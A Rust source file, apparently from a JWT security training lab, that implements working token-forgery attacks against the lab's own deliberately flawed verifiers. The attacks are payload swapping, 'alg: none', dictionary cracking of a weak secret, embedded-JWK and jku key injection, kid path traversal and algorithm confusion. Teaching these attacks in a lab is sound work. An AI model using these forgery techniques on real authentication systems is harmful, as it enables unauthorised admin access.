//! The attacks of the Lab, each forging a token that claims `role: admin`.
//! Every one really runs: the dictionary attack searches the shipped
//! wordlist, the key-injection attacks sign with a key made here.

use super::{
    encode_part,
    naive::{Flaw, NaiveVerifier, WORDLIST},
    RsaKeyPair,
};
use jsonwebtoken::{jwk::Jwk, Algorithm, DecodingKey, EncodingKey, Header, Validation};
use serde_json::{json, Value};

/// Where the `jku` attack says its key set lives; the Lab serves the
/// attacker's set there, on this very server.
pub const ATTACKER_JWKS_PATH: &str = "/lab/attacker/jwks.json";
/// The `kid` that climbs out of the key folder to a file anyone can read.
pub const TRAVERSAL_KID: &str = "../public/empty.txt";

/// An attacker's own RSA key pair.
pub struct AttackerKeys {
    private_der: Vec<u8>,
    public_jwk: Value,
}

impl AttackerKeys {
    pub fn new() -> anyhow::Result<Self> {
        let keys = RsaKeyPair::generate()?;
        let public_jwk = json!({
            "kty": "RSA",
            "use": "sig",
            "alg": "RS256",
            "kid": "attacker",
            "n": keys.n,
            "e": keys.e,
        });
        Ok(AttackerKeys {
            private_der: keys.private_der,
            public_jwk,
        })
    }

    /// The attacker's key set, as the `jku` URL serves it.
    pub fn jwks(&self) -> String {
        json!({ "keys": [self.public_jwk] }).to_string()
    }

    fn jwk(&self) -> Result<Jwk, serde_json::Error> {
        serde_json::from_value(self.public_jwk.clone())
    }

    fn sign(&self, header: &Header, claims: &Value) -> Result<String, jsonwebtoken::errors::Error> {
        jsonwebtoken::encode(header, claims, &EncodingKey::from_rsa_der(&self.private_der))
    }
}

/// A forged token, and what the attack learnt on the way.
#[derive(Debug, Clone)]
pub struct Forged {
    pub token: String,
    /// The weak secret the dictionary attack recovered.
    pub recovered_secret: Option<String>,
    /// Words tried before it was found.
    pub words_tried: usize,
}

impl Forged {
    fn token(token: String) -> Self {
        Forged {
            token,
            recovered_secret: None,
            words_tried: 0,
        }
    }
}

/// `token` with `payload` written in, its header and signature kept.
pub fn swap_payload(token: &str, payload: &Value) -> String {
    let parts: Vec<&str> = token.split('.').collect();
    let (header, signature) = (
        parts.first().copied().unwrap_or(""),
        parts.get(2).copied().unwrap_or(""),
    );
    format!("{header}.{}.{signature}", encode_part(payload))
}

/// A token with `alg: none` and no signature.
pub fn unsigned(payload: &Value) -> String {
    format!(
        "{}.{}.",
        encode_part(&json!({"alg": "none", "typ": "JWT"})),
        encode_part(payload)
    )
}

/// `claims` with `role: admin`.
pub fn as_admin(claims: &Value) -> Value {
    let mut claims = claims.clone();
    claims["role"] = json!("admin");
    claims
}

/// The word of the dictionary that signed `token` (HS256), and how many
/// words were tried to find it.
pub fn crack(token: &str) -> (Option<String>, usize) {
    let mut validation = Validation::new(Algorithm::HS256);
    validation.validate_exp = false;
    validation.validate_aud = false;
    validation.required_spec_claims.clear();
    let mut tried = 0;
    for word in WORDLIST.lines().map(str::trim).filter(|word| !word.is_empty()) {
        tried += 1;
        if jsonwebtoken::decode::<Value>(token, &DecodingKey::from_secret(word.as_bytes()), &validation).is_ok() {
            return (Some(word.to_owned()), tried);
        }
    }
    (None, tried)
}

/// Forges an admin token against `flaw`'s naive verifier, starting from a
/// token that verifier issued for `claims` (what a learner holds).
pub fn forge(flaw: Flaw, naive: &NaiveVerifier, attacker: &AttackerKeys, claims: &Value) -> anyhow::Result<Forged> {
    let admin = as_admin(claims);
    let hs256 = |key: &[u8], kid: Option<&str>| {
        let mut header = Header::new(Algorithm::HS256);
        header.kid = kid.map(str::to_owned);
        jsonwebtoken::encode(&header, &admin, &EncodingKey::from_secret(key))
    };
    let forged = match flaw {
        Flaw::DecodeOnly => {
            let own = naive.issue(flaw, claims)?;
            Forged::token(swap_payload(&own, &admin))
        }
        Flaw::AlgNone => Forged::token(unsigned(&admin)),
        Flaw::WeakSecret => {
            let own = naive.issue(flaw, claims)?;
            let (secret, words_tried) = crack(&own);
            let secret = secret.ok_or_else(|| anyhow::anyhow!("the secret is not in the wordlist"))?;
            Forged {
                token: hs256(secret.as_bytes(), None)?,
                recovered_secret: Some(secret),
                words_tried,
            }
        }
        Flaw::EmbeddedJwk => {
            let mut header = Header::new(Algorithm::RS256);
            header.jwk = Some(attacker.jwk()?);
            Forged::token(attacker.sign(&header, &admin)?)
        }
        Flaw::Jku => {
            let mut header = Header::new(Algorithm::RS256);
            header.kid = Some("attacker".into());
            header.jku = Some(format!("http://127.0.0.1{ATTACKER_JWKS_PATH}"));
            Forged::token(attacker.sign(&header, &admin)?)
        }
        Flaw::KidPath => Forged::token(hs256(b"", Some(TRAVERSAL_KID))?),
        Flaw::AlgConfusion => Forged::token(hs256(naive.public_key_pem().as_bytes(), None)?),
    };
    Ok(forged)
}
